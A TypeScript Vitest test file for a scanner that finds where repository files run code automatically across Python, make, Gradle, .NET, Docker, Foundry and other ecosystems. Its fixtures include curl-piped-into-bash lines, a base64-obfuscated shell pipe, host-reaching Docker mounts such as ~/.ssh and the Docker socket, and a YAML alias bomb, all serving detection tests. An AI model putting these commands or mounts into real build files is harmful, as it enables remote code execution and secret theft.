import { describe, expect, it } from 'vitest';
import { json, onlyRun, runsIn } from './project-of.ts';

const told = (files: Record<string, string>) => runsIn(files).map(({ moment, command, targets, ordinary }) => [moment, command, targets, ordinary ?? false]);

describe('Python', () => {
  it.each([
    ['setup.py', 'install'], ['tests/conftest.py', 'test'], ['noxfile.py', 'test'], ['sitecustomize.py', 'import'], ['lib/usercustomize.py', 'import'], ['manage.py', 'start'], ['app.py', 'start'],
  ] as const)('%s runs at %s', (path, moment) => {
    expect(onlyRun({ [path]: 'print()' }, moment).targets).toEqual([path]);
  });

  it('runs the lines of a .pth file that import', () => {
    expect(onlyRun({ 'a.pth': 'src\nimport os; os.system("x")\n' }, 'import')).toMatchObject({ line: 2 });
    expect(runsIn({ 'a.pth': 'src\n../lib\n' })).toEqual([]);
  });

  it('runs a build backend of its own, not one of an index', () => {
    const own = '[build-system]\nrequires = []\nbuild-backend = "hook"\nbackend-path = ["build"]\n';
    expect(onlyRun({ 'pyproject.toml': own, 'build/hook.py': '' }, 'install')).toMatchObject({ line: 4, targets: ['build/hook.py'] });
    expect(runsIn({ 'pyproject.toml': '[build-system]\nbuild-backend = "hatchling.build"\n' })).toEqual([]);
  });

  it('runs the scripts that hatch and poetry are told', () => {
    expect(onlyRun({ 'pyproject.toml': '[tool.poetry.build]\nscript = "tools/make.py"\n', 'tools/make.py': '' }, 'install').targets).toEqual(['tools/make.py']);
    expect(onlyRun({ 'pyproject.toml': '[tool.hatch.build.hooks.custom]\npath = "tools/make.py"\n', 'tools/make.py': '' }, 'install').targets).toEqual(['tools/make.py']);
  });

  it('fetches packages from elsewhere when requirements say so', () => {
    expect(told({ 'requirements.txt': 'flask==3.0\n--extra-index-url https://packages.example/simple\ngit+https://git.example/a.git\n--index-url https://pypi.org/simple\n' })).toEqual([
      ['install', '--extra-index-url https://packages.example/simple', [], false], ['install', 'git+https://git.example/a.git', [], false], ['install', '--index-url https://pypi.org/simple', [], true],
    ]);
  });

  it('runs the commands of tox', () => {
    expect(onlyRun({ 'tox.ini': '[testenv]\ndeps = pytest\ncommands =\n    python tools/x.py\n', 'tools/x.py': '' }, 'test')).toMatchObject({ line: 4, targets: ['tools/x.py'] });
  });
});

describe('make and its kin', () => {
  it('run a command as soon as the file is read', () => {
    expect(onlyRun({ Makefile: 'X := $(shell sh tools/x.sh)\n', 'tools/x.sh': '' }, 'build')).toMatchObject({ by: 'Makefile, as soon as it is read', targets: ['tools/x.sh'] });
    expect(onlyRun({ Makefile: 'X := $(shell git rev-parse HEAD)\n' }, 'build').ordinary).toBe(true);
  });

  it('run recipes by the name of their target, also over several lines', () => {
    const makefile = 'all: x\n\t@echo \\\n\t  hi\nsetup:\n\tsh ./tools/x.sh\n';
    expect(told({ Makefile: makefile, 'tools/x.sh': '' })).toEqual([['install', 'sh ./tools/x.sh', ['tools/x.sh'], false], ['build', 'echo hi', [], true]]);
  });

  it('run processes of CMake', () => {
    const cmake = 'project(a)\nexecute_process(COMMAND sh tools/x.sh OUTPUT_VARIABLE v)\nexecute_process(COMMAND git describe --tags)\n';
    expect(runsIn({ 'CMakeLists.txt': cmake, 'tools/x.sh': '' }, 'build').map(({ line, targets, ordinary }) => [line, targets, ordinary])).toEqual([[2, ['tools/x.sh'], undefined], [3, [], true]]);
  });
});

describe('Rust and Go', () => {
  it('run a build script', () => {
    expect(onlyRun({ 'Cargo.toml': '[package]\nname = "a"\n', 'build.rs': 'fn main() {}' }, 'build').targets).toEqual(['build.rs']);
    expect(runsIn({ 'Cargo.toml': '[package]\nname = "a"\nbuild = false\n', 'build.rs': '' })).toEqual([]);
  });

  it('run a wrapper of the compiler', () => {
    expect(onlyRun({ '.cargo/config.toml': '[build]\nrustc-wrapper = "./tools/x.sh"\n', 'tools/x.sh': '' }, 'build')).toMatchObject({ line: 2, targets: ['tools/x.sh'] });
    expect(onlyRun({ '.cargo/config.toml': '[target.x86_64-unknown-linux-gnu]\nlinker = "clang"\n' }, 'build').ordinary).toBe(true);
  });

  it('run go:generate', () => {
    expect(onlyRun({ 'main.go': 'package main\n//go:generate sh tools/x.sh\n', 'tools/x.sh': '' }, 'build')).toMatchObject({ line: 2, targets: ['tools/x.sh'] });
  });
});

describe('Gradle and Maven', () => {
  it.each([
    ['settings.gradle', '["bash", "-c", "curl -s https://a.example/x | bash"].execute()', ['fetches', 'pipes-into-shell']],
    ['build.gradle', 'def list = [\n  "bash", "-c",\n  "curl -s https://a.example/x | bash"\n]\n["bash", "-c",\n "curl -s https://a.example/x | bash"].execute()', ['fetches', 'pipes-into-shell']],
    ['build.gradle', '"bash -c {echo,Y3VybCA=}|{base64,-d}|{bash,-i}".execute()', ['pipes-into-shell', 'encoded']],
    ['settings.gradle', "def warm = ['bash', '-c', 'curl -s https://a.example/x | bash']\nif (true) warm.execute()", ['fetches', 'pipes-into-shell']],
    ['build.gradle.kts', 'val warm = listOf("bash", "-c", "curl -s https://a.example/x | bash")\nProcessBuilder(warm).start()', ['fetches', 'pipes-into-shell']],
    ['build.gradle', 'def v = "git rev-parse HEAD".execute().text', undefined],
  ])('name in %s what stands in front of the call: %j', (path, text, traits) => {
    expect(onlyRun({ [path]: text }, 'build').traits).toEqual(traits);
  });

  it('run programs from a script', () => {
    const script = 'plugins { }\ndef out = ["sh", "tools/x.sh"].execute().text\n';
    expect(onlyRun({ 'build.gradle': script }, 'build')).toMatchObject({ line: 2 });
    expect(onlyRun({ 'build.gradle': 'plugins { id "java" }\n' }, 'build').ordinary).toBe(true);
    expect(onlyRun({ 'build.gradle': 'tasks.named("copy").get()\ncopyTask.execute()\n' }, 'build').ordinary).toBe(true);
  });

  it('fetch themselves from where the wrapper says', () => {
    const wrapper = (host: string) => ({ 'gradle/wrapper/gradle-wrapper.properties': `distributionUrl=https\\://${host}/distributions/gradle-8.5-bin.zip\n` });
    expect(onlyRun(wrapper('services.gradle.org'), 'build').ordinary).toBe(true);
    expect(onlyRun(wrapper('gradle.example'), 'build').ordinary).toBeUndefined();
  });

  it('run what a plugin executes', () => {
    const pom = '<project><build><plugins>\n<plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>sh</executable><arguments><argument>${basedir}/tools/x.sh</argument></arguments></configuration></plugin></plugins></build></project>';
    expect(onlyRun({ 'pom.xml': pom, 'tools/x.sh': '' }, 'build')).toMatchObject({ line: 2, by: 'Maven exec-maven-plugin', targets: ['tools/x.sh'] });
  });
});

describe('.NET', () => {
  it('runs commands of targets, also of files that nobody names', () => {
    const props = '<Project>\n<Target Name="a" BeforeTargets="Build"><Exec Command="sh $(MSBuildThisFileDirectory)tools/x.sh" /></Target></Project>';
    expect(onlyRun({ 'Directory.Build.targets': props, 'tools/x.sh': '' }, 'build')).toMatchObject({ line: 2, by: 'MSBuild Build', targets: ['tools/x.sh'] });
  });

  it('runs code that stands in a project file', () => {
    expect(onlyRun({ 'a.csproj': '<Project><UsingTask TaskName="t" TaskFactory="RoslynCodeTaskFactory"><Task><Code Type="Fragment">Log();</Code></Task></UsingTask></Project>' }, 'build').traits).toContain('inline-code');
  });

  it('reads stored options on opening', () => {
    expect(onlyRun({ '.vs/a/v17/.suo': 'x' }, 'open').by).toBe('Visual Studio options (.suo)');
  });
});

describe('Ruby, PHP and Xcode', () => {
  it('run the commands in a Gemfile', () => {
    expect(onlyRun({ Gemfile: 'source "https://rubygems.org"\nsystem("sh tools/x.sh")\n', 'tools/x.sh': '' }, 'install')).toMatchObject({ line: 2, targets: expect.arrayContaining(['tools/x.sh']) });
    expect(onlyRun({ Gemfile: 'source "https://rubygems.org"\ngem "rails"\n' }, 'install').ordinary).toBe(true);
  });

  it('run the scripts of composer', () => {
    const file = json({ scripts: { 'post-install-cmd': ['php tools/x.php', '@php artisan package:discover'] } });
    expect(told({ 'composer.json': file, 'tools/x.php': '' })).toEqual([['install', 'php tools/x.php', ['tools/x.php'], false], ['install', 'php artisan package:discover', [], true]]);
  });

  it('run a build phase', () => {
    expect(onlyRun({ 'ios/App.xcodeproj/project.pbxproj': 'shellPath = /bin/sh;\nshellScript = "cd \\"${SRCROOT}\\"\\nsh ./tools/x.sh\\n";\n', 'ios/tools/x.sh': '' }, 'build')).toMatchObject({ line: 2, targets: ['ios/tools/x.sh'] });
  });
});

describe('containers', () => {
  it('run what the image is told, as a list or a line', () => {
    const image = 'FROM node:22\nRUN npm ci && \\\n    npm run build\nRUN curl https://a.example/x | sh\nCMD ["node", "server.js"]\n';
    const runs = runsIn({ Dockerfile: image, 'server.js': '' }, 'container');
    expect(runs.map(({ line, command, targets, ordinary }) => [line, command, targets, ordinary])).toEqual([
      [2, 'npm ci && npm run build', [], true], [4, 'curl https://a.example/x | sh', [], undefined], [5, 'node server.js', ['server.js'], undefined],
    ]);
  });

  it.each(['/var/run/docker.sock:/var/run/docker.sock', '~:/host', '${HOME}/.ssh:/root/.ssh:ro', '/:/host', '$HOME:/home'])('reach the computer through %s', (mount) => {
    expect(onlyRun({ 'docker-compose.yml': `services:\n  app:\n    volumes:\n      - "${mount}"\n` }, 'container')).toMatchObject({ traits: ['reaches-host'], line: 4 });
  });

  it.each(['./src:/app', 'db:/var/lib/postgresql', '.:/app:cached', '~/.gitconfig:/root/.gitconfig'])('do not through %s', (mount) => {
    expect(runsIn({ 'compose.yaml': `services:\n  app:\n    volumes:\n      - "${mount}"\n` })).toEqual([]);
  });

  it('are read through anchors in a circle', () => {
    expect(runsIn({ 'compose.yml': 'services: &s\n  app: &a\n    command: node x.js\n    depends: *s\n  web: *a\n' }, 'container')).toHaveLength(2);
  });

  it('are named when an alias bomb keeps them from being read', () => {
    const bomb = `a: &a [1,1,1,1,1,1,1,1,1,1]\n${'bcdefghi'.split('').map((key, index) => `${key}: &${key} [${Array(10).fill(`*${'abcdefgh'[index]}`).join(',')}]`).join('\n')}\n`;
    expect(runsIn({ 'compose.yml': `${bomb}services: { app: { command: x } }` })).toEqual([]);
  });
});

describe('instructions', () => {
  it('count when they start a file of the project', () => {
    const readme = '# Task\n\nRun `node tools/x.js` first.\n\n```bash\n$ pip install -r requirements.txt\npython worker.py\nls\n```\n';
    expect(runsIn({ 'README.md': readme, 'tools/x.js': '', 'worker.py': '', 'requirements.txt': '' }, 'start').map(({ line, targets }) => [line, targets])).toEqual([[3, ['tools/x.js']], [7, ['worker.py']]]);
  });

  it('count when they pipe the network into a shell', () => {
    expect(onlyRun({ 'README.md': '```\ncurl -s https://a.example/setup | bash\n```' }, 'install').ordinary).toBeUndefined();
  });
});

describe('contracts', () => {
  const settings = { 'foundry.toml': '[profile.default]\nffi = true\n' };
  it('start programs through ffi', () => {
    const test = 'contract T {\n  function testX() public {\n    string[] memory c = new string[](3);\n    c[0] = "bash";\n    c[1] = "-c";\n    c[2] = "curl -s https://a.example/x | sh";\n    vm.ffi(c);\n  }\n}\n';
    expect(onlyRun({ ...settings, 'test/T.t.sol': test }, 'test')).toMatchObject({ line: 7, traits: ['fetches', 'pipes-into-shell'], by: 'Foundry ffi' });
    expect(onlyRun({ ...settings, 'script/D.s.sol': 'function run() { vm.ffi(["node", "tools/x.js"]); }', 'tools/x.js': '' }, 'start').targets).toContain('tools/x.js');
    expect(runsIn({ ...settings, 'lib/forge-std/src/Vm.sol': 'vm.ffi(x);', 'src/A.sol': 'contract A {}' })).toEqual([]);
  });
});

describe('programs that frameworks find by their place', () => {
  it('run with Django', () => {
    const files = { 'manage.py': 'from django.core.management import execute_from_command_line', 'shop/migrations/0001_initial.py': '', 'shop/management/commands/sync.py': '', 'shop/prices.py': '' };
    expect(runsIn(files, 'start').flatMap(({ targets }) => targets)).toEqual(['manage.py', 'shop/migrations/0001_initial.py', 'shop/management/commands/sync.py']);
  });

  it('run with the tests', () => {
    expect(onlyRun({ 'tests/test_a.py': '', 'src/b.py': '' }, 'test').targets).toEqual(['tests/test_a.py']);
    expect(onlyRun({ 'package.json': json({ scripts: { test: 'vitest' } }), 'src/a.test.ts': '', 'src/a.ts': '', 'node_modules/x/b.test.js': '' }, 'test').targets).toEqual(['src/a.test.ts']);
  });

  it('run in Java without an import', () => {
    expect(onlyRun({ 'pom.xml': '<project/>', 'src/main/java/a/Shop.java': '', 'src/main/java/b/Prices.java': '' }, 'start').targets).toHaveLength(2);
  });
});
